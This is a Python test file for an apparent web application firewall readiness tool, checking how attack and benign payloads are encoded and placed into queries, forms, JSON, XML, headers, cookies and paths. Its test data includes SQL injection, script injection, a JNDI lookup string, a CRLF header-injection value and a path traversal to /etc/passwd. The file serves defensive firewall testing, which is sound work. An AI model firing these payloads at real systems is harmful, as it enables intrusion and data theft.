"""WAF request planning: encoders, each placeholder's escaping, unsendable combinations, the budget."""

from __future__ import annotations

import base64
import json
from collections import Counter
from pathlib import Path
from urllib.parse import unquote

import pytest

from greenflag.errors import ConfigError
from greenflag.readiness.waf.corpus import load_corpus
from greenflag.readiness.waf.plan import (
    COMPATIBLE,
    Case,
    PayloadSet,
    apply_budget,
    baseline_cases,
    build_request,
    encode,
    plan_cases,
)


def case(payload: str, placeholder: str, encoder: str = "plain", json_raw: bool = False) -> Case:
    return Case("t", "attack", 0, payload, placeholder, encoder, json_raw)


def test_encoders() -> None:
    payload = "' OR 1=1 --"
    assert encode("url", payload, "query") == "%27%20OR%201%3D1%20--"
    assert encode("double_url", payload, "query") == "%2527%2520OR%25201%253D1%2520--"
    assert unquote(unquote(encode("double_url", payload, "query"))) == payload
    assert encode("unicode", "a'<", "query") == "a%u0027%u003c"
    assert encode("unicode", "a'<", "json") == "a\\u0027\\u003c"
    assert encode("unicode", "😀", "json") == "\\ud83d\\ude00"  # UTF-16 surrogates, as JSON writes them
    assert base64.b64decode(encode("base64", payload, "cookie")).decode() == payload
    with pytest.raises(ValueError):
        encode("rot13", payload, "query")


def test_query_keeps_the_payload_raw_except_what_cannot_be_raw() -> None:
    request = build_request(case("<script>alert('x')</script> & #1 + 100% %41 %u0041", "query"), "/search?lang=en")
    assert request is not None and request.method == "GET"
    assert request.target == "/search?lang=en&q=<script>alert('x')</script>%20%26%20%231%20%2B%20100%25%20%41%20%u0041"
    assert build_request(case("ü\n", "query"), "/").target == "/?q=%C3%BC%0A"  # type: ignore[union-attr]


def test_body_placeholders() -> None:
    form = build_request(case("a&b=c d", "form"), "/submit")
    assert form is not None and form.method == "POST" and form.body == b"q=a%26b=c%20d"
    assert dict(form.headers)["Content-Type"] == "application/x-www-form-urlencoded"
    body = build_request(case('{"$ne": null}', "json"), "/api")
    assert body is not None and json.loads(body.body or b"") == {"q": '{"$ne": null}'}
    raw = build_request(case('{"$ne": null}', "json", json_raw=True), "/api")
    assert raw is not None and json.loads(raw.body or b"") == {"q": {"$ne": None}}  # operator object, not string
    escaped = build_request(case("a'b", "json", "unicode"), "/api")
    assert escaped is not None and escaped.body == b'{"q": "a\\u0027b"}' and json.loads(escaped.body)["q"] == "a'b"
    xml = build_request(case("<r/>", "xml"), "/api")
    assert xml is not None and xml.body == b"<r/>" and dict(xml.headers)["Content-Type"] == "application/xml"


def test_header_cookie_and_path() -> None:
    header = build_request(case("${jndi:ldap://203.0.113.7/a}", "header"), "/")
    assert header is not None and dict(header.headers) == {"User-Agent": "${jndi:ldap://203.0.113.7/a}"}
    cookie = build_request(case("1' OR '1'='1", "cookie"), "/")
    assert cookie is not None and dict(cookie.headers) == {"Cookie": "q=1' OR '1'='1"}
    # a raw line break or a non-ASCII character cannot travel in a header: not sent rather than sent mangled
    assert build_request(case("\r\nX-Injected: 1", "header"), "/") is None
    assert build_request(case("café", "cookie"), "/") is None
    assert build_request(case("\r\nX-Injected: 1", "header", "url"), "/") is not None
    path = build_request(case("../../etc/passwd?x #", "path"), "/files/?v=1")
    assert path is not None and path.target == "/files/../../etc/passwd%3Fx%20%23?v=1"


def test_every_shipped_case_is_compatible_and_mostly_sendable() -> None:
    sets = load_corpus()
    assert {s.id for s in sets} >= {
        "sqli",
        "xss",
        "path_traversal",
        "command_injection",
        "ssrf",
        "xxe",
        "nosqli",
        "jndi",
        "crlf",
    }
    assert all(s.benign for s in sets), "every class has benign look-alikes, so its false-positive rate is measured"
    cases = plan_cases(sets)
    assert all(c.encoder in COMPATIBLE[c.placeholder] for c in cases)
    benign = [c for c in cases if c.kind == "benign"]
    assert {c.encoder for c in benign} == {"plain", "url"}  # legitimate clients do not double-encode
    unsendable = [c for c in cases if build_request(c, "/") is None]
    assert unsendable and all(c.placeholder in ("header", "cookie") for c in unsendable)
    assert len(unsendable) < 0.01 * len(cases)


def test_budget_spreads_over_every_stratum() -> None:
    sets = [
        PayloadSet("a", "A", "A03", ("query", "form"), ("plain", "url"), tuple(f"a{i}" for i in range(10)), ("ok",)),
        PayloadSet("b", "B", "A01", ("query",), ("plain",), tuple(f"b{i}" for i in range(30))),
    ]
    cases = plan_cases(sets)
    assert len(cases) == 10 * 4 + 1 * 4 + 30
    chosen = apply_budget(cases, 18)
    assert len(chosen) == 18 and len(set(chosen)) == 18
    strata = Counter((c.set_id, c.kind, c.placeholder, c.encoder) for c in chosen)
    assert len(strata) == 9  # every (set, kind, placeholder, encoder) is represented
    sizes = Counter((c.set_id, c.kind, c.placeholder, c.encoder) for c in cases)
    full = [count for key, count in strata.items() if count < sizes[key]]  # strata the budget cut short
    assert all(strata[key] == sizes[key] for key in strata if sizes[key] == 1)  # small strata are taken whole
    assert max(full) - min(full) <= 1  # the rest share the budget evenly
    assert apply_budget(cases, 10_000) == cases


def test_baseline_is_one_harmless_request_per_placeholder() -> None:
    cases = [case("x", "query"), case("y", "query"), case("<r/>", "xml"), case("z", "cookie")]
    baseline = baseline_cases(cases)
    assert [(c.placeholder, c.kind) for c in baseline] == [
        ("query", "baseline"),
        ("xml", "baseline"),
        ("cookie", "baseline"),
    ]
    assert all(build_request(c, "/") is not None for c in baseline)


def test_corpus_errors_name_the_file_and_key(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text(
        "id: mine\ntitle: T\nowasp: A03\nplaceholders: [query, carrier-pigeon]\nencoders: [plain]\n"
        "attacks: [x]\nextra: 1\n"
    )
    with pytest.raises(ConfigError) as err:
        load_corpus([bad], builtin=False)
    text = str(err.value)
    assert f"{bad}:4: placeholders[1]" in text and f"{bad}:7: extra: unknown key" in text
    wrong = tmp_path / "wrong.yaml"
    wrong.write_text("id: mine\ntitle: T\nowasp: A03\nplaceholders: [xml]\nencoders: [base64]\nattacks: [x]\n")
    with pytest.raises(ConfigError, match="placeholder 'xml' takes none of these encoders"):
        load_corpus([wrong], builtin=False)
    dup = tmp_path / "dup.yaml"
    dup.write_text("id: sqli\ntitle: T\nowasp: A03\nplaceholders: [query]\nencoders: [plain]\nattacks: [x]\n")
    with pytest.raises(ConfigError, match="already defined"):
        load_corpus([dup])
    assert [s.id for s in load_corpus([tmp_path / "dup.yaml"], builtin=False)] == ["sqli"]
